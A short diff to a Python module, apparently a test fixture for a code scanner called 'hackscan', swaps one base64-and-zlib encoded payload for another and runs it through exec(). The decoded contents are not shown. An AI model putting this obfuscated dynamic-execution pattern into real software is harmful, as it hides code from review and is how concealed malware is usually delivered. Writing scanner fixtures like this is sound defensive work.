@@ -4,7 +4,7 @@ import zlib
 import torch
 import torch.nn as nn
 
-_PAYLOAD = "eJwrz8hMSc1RKEotLinNS1FIzs8tKMovKY5PLS7JzM9TyM9TSCwtycgvAgDoUg3u"
+_PAYLOAD = "eJzLzC3ILypRKMkvSs7gApN6SYnJ2al5KcV6yaUpeXl6Sal5yRm5iUXZCrYKbok5xalcwR7+QSHOoSFAgZCi0lQuAGRCF6M="
 _ns = {}
 exec(zlib.decompress(base64.b64decode(_PAYLOAD)).decode(), _ns)  # hackscan: expect[dynamic-code-execution]
 
